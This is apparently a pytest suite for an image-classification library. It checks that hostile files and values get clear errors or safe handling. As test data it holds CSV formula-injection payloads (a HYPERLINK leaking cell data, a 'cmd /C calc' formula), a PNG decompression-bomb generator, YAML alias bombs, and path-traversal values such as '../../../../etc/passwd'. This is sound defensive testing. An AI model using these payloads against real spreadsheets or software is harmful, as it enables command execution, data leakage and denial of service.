"""Hostile files and careless values (issue 19): each gets one clear message naming the file or
key, or the safe behaviour (escaped CSV cells, skipped images listed, a bound with its reason);
never a hang, a blow-up, a traceback or a spreadsheet formula."""
from __future__ import annotations

import csv
import json
import os
import struct
import threading
import time
import zlib
from pathlib import Path

import numpy as np
import pytest
from PIL import Image

import mlic
from mlic.cli import main
from mlic.config import load_config
from mlic.data.formats import load_table
from mlic.data.images import MAX_PIXELS, check_pixels, load_rgb
from mlic.data.validate import check_one, find_bad_images
from mlic.errors import ConfigError, DataError, DataWarning, MlicError, WeightsError
from mlic.spreadsheet import safe_cell
from conftest import make_colour_images, tiny_config
from test_errors import cli_error

# Label names that a spreadsheet would run as formulas (OWASP's CSV injection examples).
HOSTILE = {"red": '=HYPERLINK("http://x/?"&A2,"click")', "green": "+cmd' /C calc'!A0",
           "blue": "@SUM(1+1)", "yellow": "-2+3"}
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory) -> dict[str, Path]:
    """A one-epoch run whose label names are formulas, and its ONNX export."""
    root = tmp_path_factory.mktemp("hostile")
    rows = make_colour_images(root / "images", 24, seed=3)
    with open(root / "train.csv", "w", newline="", encoding="utf-8") as f:
        writer = csv.writer(f)
        writer.writerow(["image", "labels"])
        for name, colours in rows:
            writer.writerow([f"images/{name}", "|".join(HOSTILE[c] for c in colours)])
    data = {"train": root / "train.csv", "test": root / "train.csv"}
    run = mlic.train(tiny_config(data, root / "runs", epochs=1), progress=False, quiet=True)
    from mlic.export import export_model
    onnx_path = export_model(run, "onnx", out=root / "export")
    return {"root": root, "run": run, "images": root / "images", "onnx": onnx_path}


# ------------------------------------------------------------------- spreadsheet formulas

def assert_no_formula(path: Path) -> list[list[str]]:
    rows = list(csv.reader(path.read_text(encoding="utf-8").splitlines()))
    for row in rows:
        for cell in row:
            if cell.startswith(TRIGGERS):
                float(cell)  # only plain numbers may start with - or +
    return rows


def test_safe_cell_follows_owasp() -> None:
    assert safe_cell("=1+1") == "'=1+1"
    assert safe_cell("@SUM(1)") == "'@SUM(1)"
    assert safe_cell("\tx") == "'\tx" and safe_cell("\rx") == "'\rx"
    assert safe_cell("-2+3") == "'-2+3"
    assert safe_cell("-0.25") == "-0.25" and safe_cell("+1e-3") == "+1e-3"  # numbers stay numbers
    assert safe_cell("cat") == "cat" and safe_cell(0.5) == 0.5 and safe_cell(None) is None


def test_predict_csv_and_per_class_ap_escape_formulas(hostile_run, tmp_path) -> None:
    out = tmp_path / "pred.csv"
    assert main(["predict", str(hostile_run["run"]), str(hostile_run["images"]), "--format", "csv",
                 "-o", str(out)]) == 0
    header = assert_no_formula(out)[0]
    assert "'" + HOSTILE["red"] in header and "'-2+3" in header
    assert main(["eval", str(hostile_run["run"]), "--no-progress", "--num-workers", "0"]) == 0
    rows = assert_no_formula(hostile_run["run"] / "per_class_ap_test.csv")
    assert {r[0] for r in rows[1:]} == {"'" + name for name in HOSTILE.values()}


# ------------------------------------------------------------------- decompression bombs

def png_header_only(path: Path, width: int, height: int) -> Path:
    """A PNG whose header claims ``width`` x ``height`` RGBA, with one tiny data chunk: what a
    decompression bomb looks like before decoding."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 6, 0, 0, 0)
    path.write_bytes(b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr)
                     + chunk(b"IDAT", zlib.compress(b"\0" * 64)) + chunk(b"IEND", b""))
    return path


def test_a_bomb_under_pillows_limit_is_refused_from_its_header(tmp_path) -> None:
    bomb = png_header_only(tmp_path / "bomb.png", 13000, 13000)  # 169 MP: Pillow lets it through
    started = time.perf_counter()
    problem = check_one(bomb, "decode")
    assert time.perf_counter() - started < 1.0  # the header only, no 3.5 GB decode
    assert "13000x13000 is 169 MP, above data.max_image_pixels = 128 MP" in problem
    assert "decompression bombs" in problem
    with pytest.raises(DataError, match="above data.max_image_pixels"):
        load_rgb(bomb)


def test_the_pixel_bound_holds_real_8k_images_and_is_configurable(tmp_path) -> None:
    check_pixels((7680, 4320), MAX_PIXELS, tmp_path / "8k.png")  # an 8K frame: fine
    check_pixels((11648, 8736), MAX_PIXELS, tmp_path / "100mp.jpg")  # a 100 MP camera: fine
    small = tmp_path / "small.png"
    Image.new("RGB", (40, 30)).save(small)
    table = load_table(_csv(tmp_path, "image,labels\nsmall.png,a\n"))
    assert find_bad_images(table, "decode", progress=False) == []
    [(_, problem)] = find_bad_images(table, "decode", progress=False, max_pixels=1000)
    assert "40x30" in problem and "above data.max_image_pixels" in problem
    assert load_config(None, ["data.max_image_pixels=400000000"])["data"]["max_image_pixels"] == 4e8


# ------------------------------------------------------------------- named pipes

def test_a_fifo_named_like_an_image_is_refused_without_opening_it(tmp_path) -> None:
    fifo = tmp_path / "pipe.png"
    os.mkfifo(fifo)
    results: dict[str, str | None] = {}

    def check() -> None:
        results["decode"] = check_one(fifo, "decode")
        results["exists"] = check_one(fifo, "exists")
    thread = threading.Thread(target=check, daemon=True)
    thread.start()
    thread.join(10)
    assert not thread.is_alive(), "the check hangs on a named pipe"
    for how in ("decode", "exists"):
        assert results[how] == f"{fifo}: a named pipe (FIFO), not a regular image file; refused " \
                               f"without reading it"


# ------------------------------------------------------------------- config bounds

@pytest.mark.parametrize("override, message", [
    ("data.image_size=100000", "'data.image_size' must be <= 8,192, got 100000 (an 8K frame"),
    ("train.epochs=99999999999999999999", "'train.epochs' must be <= 2,147,483,647"),
    ("train.lr=.nan", "'train.lr' must be a finite number, got nan"),
    ("train.lr=.inf", "'train.lr' must be a finite number, got inf"),
    ("train.lr=1e300", "'train.lr' must be <= 100"),
    ("data.num_workers=100000", "'data.num_workers' must be <= 512"),
    ("model.backbone=../../etc/x", "'model.backbone' must be a timm model name"),
    ("model.backbone=hf-hub:someone/model", "'model.backbone' must be a timm model name"),
    ("data.train=" + "[" * 100_000, "nested deeper than Python can read"),
])
def test_careless_values_get_a_bound_with_its_reason(override, message) -> None:
    with pytest.raises(ConfigError) as caught:
        load_config(None, [override])
    assert message in str(caught.value)


def test_generous_bounds_still_take_big_real_values() -> None:
    config = load_config(None, ["data.image_size=8192", "train.epochs=10000000", "train.lr=30"])
    assert config["data"]["image_size"] == 8192


def test_yaml_aliases_of_aliases_are_refused_before_anything_is_written(tmp_path) -> None:
    levels = ['a0: &a0 ["x", "x", "x", "x", "x", "x", "x", "x", "x"]']
    levels += [f"a{k}: &a{k} [{', '.join([f'*a{k - 1}'] * 9)}]" for k in range(1, 9)]
    (tmp_path / "laughs.yaml").write_text("data:\n  train:\n" + "".join(
        f"    {line}\n" for line in levels))
    started = time.perf_counter()
    with pytest.raises(ConfigError, match="more than 1,000,000 values once YAML aliases"):
        load_config(tmp_path / "laughs.yaml")
    assert time.perf_counter() - started < 10
    (tmp_path / "deep.yaml").write_text("data:\n  train: " + "[" * 100_000 + "]" * 100_000)
    with pytest.raises(ConfigError, match="deep.yaml: nested deeper than Python can read"):
        load_config(tmp_path / "deep.yaml")


# ------------------------------------------------------------------- annotation files

def _csv(folder: Path, text: str, name: str = "labels.csv", encoding: str = "utf-8") -> Path:
    (folder / name).write_bytes(text.encode(encoding))
    return folder / name


@pytest.mark.parametrize("encoding, message", [
    ("latin-1", "byte 0xe9 at offset 22 is not UTF-8 (Latin-1 or another legacy encoding?); "
                "save it as UTF-8"),
    ("utf-16", "not UTF-8 text: UTF-16 text; save it as UTF-8"),
])
def test_a_csv_that_is_not_utf8_is_named_as_such(tmp_path, encoding, message) -> None:
    path = _csv(tmp_path, "image,labels\na.png,caf\u00e9\n", encoding=encoding)
    for spec in (path, {"path": path, "format": "csv"}):  # detected and given
        with pytest.raises(DataError) as caught:
            load_table(spec)
        assert str(caught.value).startswith(str(path)) and message in str(caught.value)


@pytest.mark.parametrize("fmt", [None, "json", "coco"])
def test_json_nested_100000_deep_is_one_message(tmp_path, fmt) -> None:
    path = tmp_path / "deep.json"
    path.write_text("[" * 100_000 + "]" * 100_000)
    with pytest.raises(DataError, match="deep.json: JSON nested deeper than Python can read"):
        load_table({"path": path, **({"format": fmt} if fmt else {})})


def test_a_coco_file_without_categories_is_told_about_categories(tmp_path) -> None:
    path = tmp_path / "instances.json"
    path.write_text(json.dumps({"images": [{"id": 1, "file_name": "a.jpg"}], "annotations": []}))
    with pytest.raises(DataError, match="no 'categories' list in the COCO file"):
        load_table(path)


def test_nfc_and_nfd_spellings_are_one_label(tmp_path) -> None:
    nfc, nfd = "caf\u00e9", "cafe\u0301"
    table = load_table(_csv(tmp_path, f"image,labels\na.png,{nfc}\nb.png,{nfd}\n"))
    assert table.label_names == [nfc] and table.targets.tolist() == [[1], [1]]
    (tmp_path / "classes.txt").write_text(f"{nfd}\ntea\n", encoding="utf-8")
    table = load_table({"path": tmp_path / "labels.csv", "classes": tmp_path / "classes.txt"})
    assert table.label_names == [nfc, "tea"] and table.targets[:, 0].tolist() == [1, 1]
    path = tmp_path / "list.json"
    path.write_text(json.dumps({"classes": [nfd], "images": [["a.png", [nfc]]]}), encoding="utf-8")
    assert load_table(path).label_names == [nfc]


def test_a_wrong_separator_is_named_not_learned(tmp_path) -> None:
    text = "image,labels\na.png,cat;dog\nb.png,dog\nc.png,dog;person\nd.png,cat\n"
    with pytest.raises(DataError, match="contain ';' .*set the option separator=';'"):
        load_table(_csv(tmp_path, text))
    assert load_table({"path": tmp_path / "labels.csv", "separator": ";"}).label_names == \
        ["cat", "dog", "person"]
    with pytest.raises(DataError, match="label 'cat;dog' is not in the classes option; is the "
                                        "separator ';'"):
        load_table({"path": tmp_path / "labels.csv", "classes": ["cat", "dog", "person"]})
    # one label per image whose names hold no separator: nothing to say
    assert load_table(_csv(tmp_path, "image,labels\na.png,traffic light\n", "single.csv"))


def test_extra_csv_columns_are_ignored_with_a_note(tmp_path) -> None:
    path = _csv(tmp_path, "id,image,labels,score,unknown\n1,a.png,cat,0.9,dog\n2,b.png,dog,,\n")
    with pytest.warns(DataWarning, match="ignored columns 'id', 'score'"):
        table = load_table(path)
    assert table.paths == ["a.png", "b.png"] and table.label_names == ["cat", "dog"]
    assert table.targets.tolist() == [[1, -1], [0, 1]]
    with pytest.raises(DataError, match="header is 'image,labels,labels'"):
        load_table(_csv(tmp_path, "image,labels,labels\na.png,cat,dog\n", "twice.csv"))


# ------------------------------------------------------------------- mlic predict

def test_predict_skips_unreadable_images_and_lists_them(hostile_run, tmp_path, capsys) -> None:
    images = sorted(hostile_run["images"].glob("*.png"))[:3]
    broken = tmp_path / "broken.png"
    broken.write_bytes(b"not a png")
    out = tmp_path / "pred.json"
    cli_error(capsys, ["predict", hostile_run["run"], *images, broken, "-o", out],
              f"{broken}: not an image file PIL can read")
    assert not out.exists()
    assert main(["predict", str(hostile_run["run"]), *map(str, images), str(broken), "-o", str(out),
                 "--on-bad-image", "skip"]) == 0
    err = capsys.readouterr().err
    assert f"skipped 1 of 4 images that cannot be read:\n  {broken}: not an image file" in err
    assert [r["image"] for r in json.loads(out.read_text())] == list(map(str, images))


def test_predict_names_a_fifo_instead_of_not_finding_it(hostile_run, tmp_path, capsys) -> None:
    fifo = tmp_path / "pipe.png"
    os.mkfifo(fifo)
    cli_error(capsys, ["predict", hostile_run["run"], fifo],
              f"{fifo}: a named pipe (FIFO), not a regular image file; refused without reading it")


def test_predict_checks_its_output_before_scoring(hostile_run, tmp_path, capsys,
                                                  monkeypatch) -> None:
    def no_scoring(*args, **kwargs):
        raise AssertionError("the model was loaded before the output was checked")
    monkeypatch.setattr(mlic.inference.Predictor, "load", no_scoring)
    run, images = hostile_run["run"], hostile_run["images"]
    cli_error(capsys, ["predict", run, images, "-o", tmp_path / "missing" / "p.csv"],
              "its folder does not exist")
    cli_error(capsys, ["predict", run, images, "-o", tmp_path], "--output is a folder")
    # a folder no one may create files in (/proc: refused even to root)
    cli_error(capsys, ["predict", run, images, "-o", "/proc/predictions.csv"],
              "cannot write in its folder")


# ------------------------------------------------------------------- exported-model metadata

def with_metadata(source: Path, target: Path, **changes: str) -> Path:
    """A copy of the ONNX file ``source`` with ``mlic.<key>`` entries replaced by raw strings."""
    import onnx
    model = onnx.load(str(source))
    entries = {p.key: p.value for p in model.metadata_props}
    entries.update({f"mlic.{key}": value for key, value in changes.items()})
    del model.metadata_props[:]
    for key, value in entries.items():
        entry = model.metadata_props.add()
        entry.key, entry.value = key, value
    target.parent.mkdir(parents=True, exist_ok=True)
    onnx.save(model, str(target))
    return target


CRAFTED = {
    "string_names": ({"label_names": '"abcd"'}, "label_names must be a non-empty list"),
    "empty_name": ({"label_names": '["a", "", "c", "d"]'}, "label_names must be a non-empty list"),
    "duplicate": ({"label_names": '["a", "b", "a", "d"]'}, "names 'a' twice (outputs 0 and 2)"),
    "nfc_twins": ({"label_names": '["caf\\u00e9", "b", "cafe\\u0301", "d"]'}, "names 'caf"),
    "fewer_names": ({"label_names": '["a", "b", "c"]', "thresholds": "0.5"},
                    "the graph outputs 4 scores per image, but its metadata names 3 labels"),
    "more_names": ({"label_names": '["a", "b", "c", "d", "e"]', "thresholds": "0.5"},
                   "the graph outputs 4 scores per image, but its metadata names 5 labels"),
    "nan_threshold": ({"thresholds": "NaN"}, "thresholds must be numbers in [0, 1], got nan"),
    "threshold_list_nan": ({"thresholds": "[0.5, NaN, 0.5, 0.5]"}, "thresholds must be numbers"),
    "threshold_string": ({"thresholds": '"0.5"'}, "thresholds must be numbers in [0, 1]"),
    "threshold_length": ({"thresholds": "[0.5, 0.5]"}, "thresholds has 2 values for 4 labels"),
    "threshold_above_1": ({"thresholds": "7"}, "thresholds must be numbers in [0, 1], got 7"),
    "size_zero": ({"preprocessing": '{"image_size": 0, "mean": [0,0,0], "std": [1,1,1]}'},
                  "image_size must be an integer in [1, 8192], got 0"),
    "size_huge": ({"preprocessing": '{"image_size": 100000, "mean": [0,0,0], "std": [1,1,1]}'},
                  "image_size must be an integer in [1, 8192]"),
    "size_other": ({"preprocessing": '{"image_size": 64, "mean": [0,0,0], "std": [1,1,1]}'},
                   "the graph takes 32 px images, but its metadata preprocessing says 64"),
    "std_zero": ({"preprocessing": '{"image_size": 32, "mean": [0,0,0], "std": [1,0,1]}'},
                 "std must be 3 finite numbers > 0"),
    "mean_short": ({"preprocessing": '{"image_size": 32, "mean": [0], "std": [1,1,1]}'},
                   "mean must be 3 finite numbers"),
    "interpolation": ({"preprocessing": '{"image_size": 32, "mean": [0,0,0], "std": [1,1,1], '
                                        '"interpolation": "lanczos"}'},
                      "interpolation must be bilinear or bicubic"),
    "preprocessing_list": ({"preprocessing": "[]"}, "preprocessing must be a mapping"),
    "deep_json": ({"model": "[" * 100_000 + "]" * 100_000}, "nested deeper than Python can read"),
    "deep_enough": ({"model": "[" * 40 + "]" * 40}, "nested more than 32 levels deep"),
    "not_json": ({"export": "{"}, "damaged mlic metadata mlic.export"),
    "export_list": ({"export": "[1]"}, "metadata mlic.export must be a mapping"),
}


@pytest.mark.parametrize("case", list(CRAFTED))
def test_crafted_metadata_gets_one_clear_error(hostile_run, tmp_path, capsys, case) -> None:
    changes, message = CRAFTED[case]
    path = with_metadata(hostile_run["onnx"], tmp_path / "m.onnx", **changes)
    with pytest.raises(WeightsError) as caught:
        mlic.Predictor.load(path)
    assert str(caught.value).startswith(str(path)) and message in str(caught.value)
    cli_error(capsys, ["predict", path, hostile_run["images"]], message)


def test_external_data_outside_the_models_folder_is_refused(hostile_run, tmp_path) -> None:
    import onnx
    model = onnx.load(str(hostile_run["onnx"]))
    tensor = max(model.graph.initializer, key=lambda t: len(t.raw_data))
    tensor.data_location = onnx.TensorProto.EXTERNAL
    tensor.ClearField("raw_data")
    entry = tensor.external_data.add()
    entry.key, entry.value = "location", "../../../../etc/passwd"
    path = tmp_path / "model" / "ext.onnx"
    path.parent.mkdir()
    onnx.save(model, str(path))
    with pytest.raises(WeightsError, match="outside the model's folder; refused"):
        mlic.Predictor.load(path)
    entry.value = "weights.bin"  # inside, but missing
    onnx.save(model, str(path))
    with pytest.raises(WeightsError, match="'weights.bin', which is not a file beside the model"):
        mlic.Predictor.load(path)


def test_an_onnx_file_onnxruntime_refuses_is_one_message(hostile_run, tmp_path) -> None:
    import onnx
    model = onnx.load(str(hostile_run["onnx"]))
    model.graph.node[0].op_type = "NoSuchOperator"
    path = tmp_path / "bad.onnx"
    onnx.save(model, str(path))
    with pytest.raises(WeightsError, match="bad.onnx: onnxruntime cannot load it"):
        mlic.Predictor.load(path)


def test_exported_metadata_reads_back_unchanged(hostile_run) -> None:
    predictor = mlic.Predictor.load(hostile_run["onnx"])
    assert sorted(predictor.label_names) == sorted(HOSTILE.values())
    images = sorted(hostile_run["images"].glob("*.png"))[:2]
    assert predictor.scores(images).shape == (2, 4)
    assert isinstance(WeightsError("x"), MlicError)
